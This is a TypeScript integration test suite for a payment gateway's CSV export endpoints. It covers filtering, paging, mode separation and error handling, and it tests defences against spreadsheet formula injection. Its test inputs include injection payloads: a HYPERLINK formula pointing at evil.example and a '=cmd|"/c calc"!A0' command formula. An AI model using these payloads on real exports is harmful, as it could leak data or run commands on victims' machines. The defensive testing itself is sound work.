/**
 * The CSV exports (D21) against a whole running system: GET
 * /gateway/exports/{sessions,refunds,balance_transactions}.csv with the list
 * filters, every matching row of the key's mode, parsed back with csv-parse;
 * formula injection neutralised; paging across pages (EXPORT_PAGE_SIZE is 4
 * here); and every refused query answered with the list's problem, no CSV.
 */
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { commandsHandled, payOnPage, pollUntil, sessionRequest, TestSystem, type ApiClient, type ApiResponse } from '@gateway/testkit';

/** Small, so that a few sessions span several pages. */
const PAGE_SIZE = 4;

const SESSION_COLUMNS = [
  'id',
  'merchant_reference',
  'order_number',
  'order_id',
  'amount',
  'currency',
  'original.amount',
  'original.currency',
  'original.rate',
  'status',
  'livemode',
  'buyer_first_name',
  'buyer_last_name',
  'buyer_email',
  'created_at',
  'payment_link',
  'customer',
  'payment_method',
];
const REFUND_COLUMNS = ['refund_id', 'session_id', 'amount', 'currency', 'reason', 'metadata', 'automated_refund', 'status', 'epg_error_message', 'created_at', 'resolved_at'];
const TRANSACTION_COLUMNS = ['id', 'type', 'session_id', 'source', 'amount', 'fee', 'net', 'currency', 'created_at', 'available_on', 'livemode', 'payment_method'];

type Problem = { type: string; status: number; errors?: { field: string; code: string }[] };
type Session = { id: string; status: string; checkout_url?: string; livemode: boolean };
type Listed = { data: Record<string, unknown>[]; has_more: boolean };
type Row = Record<string, string>;

/** An item of a JSON list as its CSV row should read: nested objects dotted, booleans and numbers as text, null as empty. */
function flat(item: Record<string, unknown>, prefix = ''): Row {
  const row: Row = {};
  for (const [key, value] of Object.entries(item)) {
    if (value !== null && typeof value === 'object' && !Array.isArray(value) && key === 'original') Object.assign(row, flat(value as Record<string, unknown>, `${prefix}${key}.`));
    else row[`${prefix}${key}`] = value === null ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);
  }
  return row;
}

describe('CSV exports (D21)', function () {
  this.timeout(120_000);
  let system: TestSystem;
  let host: string;
  let today: string;

  before(async () => {
    system = await TestSystem.start({ serviceEnv: { 'api-gateway': { EXPORT_PAGE_SIZE: String(PAGE_SIZE) } } });
    host = new URL(system.baseUrl).host;
  });
  after(async () => {
    await system?.shutdown();
  });
  beforeEach(() => {
    today = new Date().toISOString().slice(0, 10);
  });

  async function shop(limits = { account: 10_000, create: 10_000, refund: 10_000 }): Promise<{ api: ApiClient; merchantId: string }> {
    const merchant = await system.newMerchant({ limits });
    return { api: system.api(merchant.testKey), merchantId: merchant.merchantId };
  }

  async function create(api: ApiClient, overrides: Record<string, unknown> = {}): Promise<Session> {
    const res = await api.post<Session>('/gateway/sessions/', sessionRequest(overrides));
    assert.equal(res.status, 201, res.text);
    return res.body;
  }

  /** `count` sessions, one after another, so that their order is their creation order. */
  async function createMany(api: ApiClient, count: number): Promise<Session[]> {
    const made: Session[] = [];
    for (let i = 0; i < count; i += 1) made.push(await create(api, { merchant_reference: `bulk-${i}-${Date.now()}` }));
    return made;
  }

  /** The export's answer and its rows, checked to be CSV with exactly `columns` as its header row. */
  async function exported(api: ApiClient, kind: string, query = '', columns?: readonly string[]): Promise<{ res: ApiResponse; rows: Row[] }> {
    const res = await api.get(`/gateway/exports/${kind}.csv${query}`);
    assert.equal(res.status, 200, res.text);
    assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
    const header = res.text.slice(0, res.text.indexOf('\r\n')).split(',');
    if (columns) assert.deepEqual(header, columns);
    assert.ok(res.text.endsWith('\r\n'), 'every record ends with CRLF');
    return { res, rows: parse(res.text, { columns: true }) as Row[] };
  }

  /** Every item of a JSON list, newest first, paged with its own cursors. */
  async function listAll(api: ApiClient, path: string): Promise<Record<string, unknown>[]> {
    const items: Record<string, unknown>[] = [];
    let after: string | undefined;
    for (;;) {
      const separator = path.includes('?') ? '&' : '?';
      const res = await api.get<Listed>(`${path}${separator}limit=100${after ? `&starting_after=${after}` : ''}`);
      assert.equal(res.status, 200, res.text);
      items.push(...res.body.data);
      if (!res.body.has_more) return items;
      after = String(res.body.data.at(-1)?.['id'] ?? res.body.data.at(-1)?.['refund_id']);
    }
  }

  /** A paid session of `amount`, paid through the hosted page and the sandbox. */
  async function paid(api: ApiClient, amount = '100.000'): Promise<Session> {
    const created = await create(api, { amount });
    await payOnPage(created.checkout_url ?? '', { card_number: '4242424242424242' });
    const read = await api.get<Session>(`/gateway/sessions/${created.id}/`);
    assert.equal(read.body.status, 'SUCCEEDED', read.text);
    return read.body;
  }

  /** A 422 validation problem naming `fields`, and no CSV at all. */
  function assertRefused(res: ApiResponse<Problem>, fields: readonly string[]): void {
    assert.equal(res.status, 422, res.text);
    assert.equal(res.headers.get('content-type'), 'application/problem+json; charset=utf-8');
    assert.equal(res.headers.get('content-disposition'), null);
    assert.equal(res.body.type, `https://${host}/errors/validation-error`);
    assert.deepEqual(
      res.body.errors?.map((e) => [e.field, e.code]),
      fields.map((field) => [field, 'invalid']),
    );
  }

  it('when sessions are exported with a filter, then exactly the matching sessions come back, newest first, as the list shows them, under a header row of the JSON field names', async () => {
    const { api } = await shop();
    const sessions = await createMany(api, 6);
    const canceled = [sessions[1], sessions[4]].map((s) => s?.id ?? '');
    for (const id of canceled) assert.equal((await api.post(`/gateway/sessions/${id}/cancel/`)).status, 200);

    const { res, rows } = await exported(api, 'sessions', '?status=CANCELED', SESSION_COLUMNS);
    assert.equal(res.headers.get('content-disposition'), `attachment; filename="sessions-test-${today}.csv"`);
    assert.equal(res.headers.get('cache-control'), 'no-store');
    const listed = await listAll(api, '/gateway/sessions/list/?status=CANCELED');
    assert.deepEqual(
      rows.map((row) => row['id']),
      [canceled[1], canceled[0]],
    );
    // A field the list item leaves out (payment_link of a session made without a link) is an empty cell.
    assert.deepEqual(rows, listed.map((item): Row => ({ payment_link: '', ...flat(item) })));
    const [first] = rows;
    assert.ok(first);
    assert.match(first['amount'] ?? '', /^\d+\.\d{3}$/, 'money as a decimal string');
    assert.match(first['created_at'] ?? '', /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/, 'times in UTC ISO 8601');
    assert.deepEqual([first['livemode'], first['original.currency'], first['status']], ['false', 'TND', 'CANCELED']);

    const one = await exported(api, 'sessions', `?merchant_reference=${encodeURIComponent(String(listed[0]?.['merchant_reference']))}`);
    assert.deepEqual(
      one.rows.map((row) => row['id']),
      [canceled[1]],
    );
    const none = await exported(api, 'sessions', '?status=SUCCEEDED', SESSION_COLUMNS);
    assert.equal(none.res.text, `${SESSION_COLUMNS.join(',')}\r\n`);
  });

  it('when a session\'s reference or buyer name starts with =, +, - or @, then its cell comes back prefixed with an apostrophe and the rest of the text intact', async () => {
    const { api } = await shop();
    const risky = await create(api, {
      merchant_reference: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      first_name: '+Amina',
      last_name: '-Ben Salah',
    });
    const at = await create(api, { merchant_reference: '@SUM(1+1)', first_name: 'Amina=Safe', last_name: "O'Brien, \"Jr\"" });

    const { res, rows } = await exported(api, 'sessions', '', SESSION_COLUMNS);
    const byId = new Map(rows.map((row) => [row['id'], row]));
    assert.deepEqual(
      [byId.get(risky.id)?.['merchant_reference'], byId.get(risky.id)?.['buyer_first_name'], byId.get(risky.id)?.['buyer_last_name']],
      ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+Amina", "'-Ben Salah"],
    );
    assert.deepEqual(
      [byId.get(at.id)?.['merchant_reference'], byId.get(at.id)?.['buyer_first_name'], byId.get(at.id)?.['buyer_last_name']],
      ["'@SUM(1+1)", 'Amina=Safe', "O'Brien, \"Jr\""],
    );
    // On the wire: the apostrophe inside the quotes RFC 4180 puts around a field with quotes or commas.
    assert.ok(res.text.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'), res.text);
    assert.ok(res.text.includes(",'+Amina,'-Ben Salah,"), res.text);
  });

  it('when a reference starts with a space, a tab, a no-break space, a byte-order mark or another format character before =, +, - or @ (the review\'s reproduction), then its cell is prefixed with an apostrophe too', async () => {
    const { api } = await shop();
    const risky = [' =1+1', '\u00a0=HYPERLINK("http://evil.example/","Refund")', '\ufeff=1+1', '\u200b+cmd', '\u202e@SUM(A1)', '\u2060-2+3', ' \u00a0\t=1', '   @me', '\u3000=1'];
    const harmless = [' plain', 'a =b', '\u00a0 5', '\u200bname'];
    const byReference = new Map<string, string>();
    for (const [i, text] of [...risky, ...harmless].entries()) {
      const made = await create(api, { merchant_reference: `${text}#${i}` });
      byReference.set(made.id, `${text}#${i}`);
    }

    const { rows } = await exported(api, 'sessions', '', SESSION_COLUMNS);
    const cells = new Map(rows.map((row) => [row['id'], row['merchant_reference']]));
    for (const [id, reference] of byReference) {
      const expected = risky.some((text) => reference.startsWith(text)) ? `'${reference}` : reference;
      assert.equal(cells.get(id), expected, JSON.stringify(reference));
    }
  });

  it('when refunds and balance transactions are exported, then a refund has its row, and its balance transaction a negative amount prefixed with an apostrophe', async () => {
    const { api } = await shop();
    const session = await paid(api, '100.000');
    const refund = await api.post<{ refund_id: string }>(`/gateway/sessions/${session.id}/refund/`, {
      reason: '=cmd|"/c calc"!A0',
      refund_type: 'PARTIAL',
      amount: '5.000',
      metadata: { ticket: '@T-7' },
    });
    assert.equal(refund.status, 200, refund.text);

    const refunds = await exported(api, 'refunds', `?session_id=${session.id}`, REFUND_COLUMNS);
    assert.equal(refunds.res.headers.get('content-disposition'), `attachment; filename="refunds-test-${today}.csv"`);
    assert.equal(refunds.rows.length, 1);
    const [row] = refunds.rows;
    const read = (await api.get<Record<string, unknown>>(`/gateway/refunds/${refund.body.refund_id}/`)).body;
    assert.deepEqual({ ...row }, { ...flat(read), reason: '\'=cmd|"/c calc"!A0', epg_error_message: '' });
    assert.deepEqual([row?.['amount'], row?.['metadata'], row?.['status']], ['5.000', '{"ticket":"@T-7"}', 'succeeded']);

    // The ledger writes both moves from the payment's and the refund's events.
    await pollUntil(
      async () => (await api.get<Listed>(`/gateway/balance_transactions/?session_id=${session.id}`)).body.data?.length === 2,
      15_000,
      'the ledger recorded the payment and the refund',
    );
    const moves = await exported(api, 'balance_transactions', `?session_id=${session.id}`, TRANSACTION_COLUMNS);
    assert.equal(moves.res.headers.get('content-disposition'), `attachment; filename="balance_transactions-test-${today}.csv"`);
    assert.deepEqual(
      moves.rows.map((move) => [move['type'], move['source'], move['amount'], move['fee'], move['net'], move['livemode'], move['payment_method']]),
      [
        ['refund', refund.body.refund_id, "'-5.000", '0.000', "'-5.000", 'false', 'card'],
        ['payment', session.id, '100.000', moves.rows[1]?.['fee'], moves.rows[1]?.['net'], 'false', 'card'],
      ],
    );
    const listed = await listAll(api, `/gateway/balance_transactions/?session_id=${session.id}`);
    assert.deepEqual(
      moves.rows.map((move) => move['id']),
      listed.map((item) => item['id']),
    );
    assert.equal(moves.rows[1]?.['net'], listed[1]?.['net']);
    assert.match(moves.rows[0]?.['available_on'] ?? '', /^\d{4}-\d\d-\d\d$/);
    const onlyRefunds = await exported(api, 'balance_transactions', `?type=refund&session_id=${session.id}`);
    assert.deepEqual(
      onlyRefunds.rows.map((move) => move['source']),
      [refund.body.refund_id],
    );
  });

  it('when an export spans several pages, then every row comes once, in list order, each page read after the last row of the one before', async () => {
    const { api } = await shop();
    const sessions = await createMany(api, 10);
    await api.post(`/gateway/sessions/${sessions[5]?.id ?? ''}/cancel/`);
    const sessionPort = system.portOf('session');
    const pagesBefore = await commandsHandled(sessionPort, 'session.list');

    const all = await exported(api, 'sessions', '', SESSION_COLUMNS);
    assert.deepEqual(
      all.rows.map((row) => row['id']),
      sessions.map((s) => s.id).reverse(),
    );
    // 10 rows by pages of 4: three pages.
    assert.equal((await commandsHandled(sessionPort, 'session.list')) - pagesBefore, 3);

    // Filtered across pages: the nine still CREATED, over three pages again.
    const created = await exported(api, 'sessions', '?status=CREATED');
    assert.deepEqual(
      created.rows.map((row) => row['id']),
      sessions
        .filter((_, i) => i !== 5)
        .map((s) => s.id)
        .reverse(),
    );
    // Exactly a page's worth: one page, no empty one asked for after it.
    const oneBefore = await commandsHandled(sessionPort, 'session.list');
    const four = await exported(api, 'sessions', `?created[gte]=${encodeURIComponent((await api.get<{ created_at: string }>(`/gateway/sessions/${sessions[6]?.id ?? ''}/`)).body.created_at)}`);
    assert.deepEqual(
      four.rows.map((row) => row['id']),
      sessions
        .slice(6)
        .map((s) => s.id)
        .reverse(),
    );
    assert.equal((await commandsHandled(sessionPort, 'session.list')) - oneBefore, 1);
  });

  it('when a row that ended a page leaves the filter before the next page is read (a CREATED session paid meanwhile), then the export goes on from it (sessions and refunds), where the JSON list refuses such a cursor', async () => {
    const { api, merchantId } = await shop();
    const left = await paid(api, '4.000');
    const context = { merchant_id: merchantId, livemode: false, order_prefix: 'EXP', merchant_name: 'Export', request_id: `exports-${Date.now()}` };
    const query = { status: 'CREATED', starting_after: left.id };
    const next = await system.send<{ data: unknown[] }>('session.list', { context, query, page_size: PAGE_SIZE });
    assert.deepEqual(next.data, []);
    await assert.rejects(system.send('session.list', { context, query }), (err: Error & { code?: string }) => err.code === 'validation-error');

    // The same for refunds: a pending refund resolved between two pages of a status=pending export.
    const refunded = await api.post<{ refund_id: string }>(`/gateway/sessions/${left.id}/refund/`, { refund_type: 'PARTIAL', amount: '1.000', reason: 'Returned' });
    assert.equal(refunded.status, 200, refunded.text);
    const refundQuery = { status: 'pending', starting_after: refunded.body.refund_id };
    assert.deepEqual((await system.send<{ data: unknown[] }>('refund.list', { context, query: refundQuery, page_size: PAGE_SIZE })).data, []);
    await assert.rejects(system.send('refund.list', { context, query: refundQuery }), (err: Error & { code?: string }) => err.code === 'validation-error');
  });

  it('when the query is refused by the list (unknown filter, reversed range, not a date, another merchant\'s session) or holds paging parameters, then the answer is the 422 problem and no CSV', async () => {
    const { api } = await shop();
    const stranger = await shop();
    const theirs = await create(stranger.api);
    const cases: [string, string, string[]][] = [
      ['sessions', '?colour=red', ['colour']],
      ['sessions', '?created[gte]=2026-12-01T00:00:00Z&created[lte]=2026-11-01T00:00:00Z', ['created[gte]']],
      ['sessions', '?created[gte]=yesterday', ['created[gte]']],
      ['sessions', '?status=PAID', ['status']],
      ['refunds', `?session_id=${theirs.id}`, ['session_id']],
      ['refunds', '?created[lte]=soon', ['created[lte]']],
      ['balance_transactions', `?session_id=${theirs.id}`, ['session_id']],
      ['balance_transactions', '?type=payout', ['type']],
      ['sessions', '?limit=5', ['limit']],
      ['refunds', `?starting_after=${theirs.id}&colour=red`, ['starting_after', 'colour']],
      ['balance_transactions', '?ending_before=txn_x', ['ending_before']],
    ];
    for (const [kind, query, fields] of cases) {
      const res = await api.get<Problem>(`/gateway/exports/${kind}.csv${query}`);
      try {
        assertRefused(res, fields);
      } catch (err) {
        assert.fail(`${kind}.csv${query}: ${String(err)}`);
      }
    }
  });

  it('when a test key exports, then it never gets a live row, and a live key gets only the live ones, in a file named for its mode', async () => {
    const { api, merchantId } = await shop();
    const live = system.api(await system.approveLive(merchantId, { terminal: true }));
    const testSessions = await createMany(api, 2);
    const liveSession = await create(live);
    assert.equal(liveSession.livemode, true);

    const asTest = await exported(api, 'sessions', '', SESSION_COLUMNS);
    assert.deepEqual(
      asTest.rows.map((row) => [row['id'], row['livemode']]),
      testSessions.map((s) => [s.id, 'false']).reverse(),
    );
    const asLive = await exported(live, 'sessions', '', SESSION_COLUMNS);
    assert.deepEqual(
      asLive.rows.map((row) => [row['id'], row['livemode']]),
      [[liveSession.id, 'true']],
    );
    assert.equal(asLive.res.headers.get('content-disposition'), `attachment; filename="sessions-live-${today}.csv"`);
    // The live mode has no refund and no money move yet; a test session id is another mode's, refused as another account's.
    assert.equal((await exported(live, 'refunds', '', REFUND_COLUMNS)).rows.length, 0);
    assert.equal((await exported(live, 'balance_transactions', '', TRANSACTION_COLUMNS)).rows.length, 0);
    assertRefused(await live.get<Problem>(`/gateway/exports/refunds.csv?session_id=${testSessions[0]?.id ?? ''}`), ['session_id']);
  });

  it('when an export is asked without a key, with another method, or past the account budget, then it answers 401, 405 or 429 like every route', async () => {
    const unauthenticated = await system.api().get<Problem>('/gateway/exports/sessions.csv');
    assert.equal(unauthenticated.status, 401);
    assert.equal(unauthenticated.headers.get('www-authenticate'), 'Bearer');

    const { api } = await shop({ account: 2, create: 2, refund: 2 });
    const posted = await api.post<Problem>('/gateway/exports/sessions.csv', {});
    assert.deepEqual([posted.status, posted.headers.get('allow')], [405, 'GET']);

    const burst = await Promise.all(Array.from({ length: 6 }, () => api.get('/gateway/exports/refunds.csv')));
    const limited = burst.filter((res) => res.status === 429);
    assert.ok(limited.length >= 2, `statuses: ${burst.map((res) => res.status).join(',')}`);
    assert.ok(limited.every((res) => res.headers.get('content-type') === 'application/problem+json; charset=utf-8' && Number(res.headers.get('retry-after')) >= 1));
    assert.ok(burst.filter((res) => res.status === 200).every((res) => res.text === `${REFUND_COLUMNS.join(',')}\r\n`));
  });
});
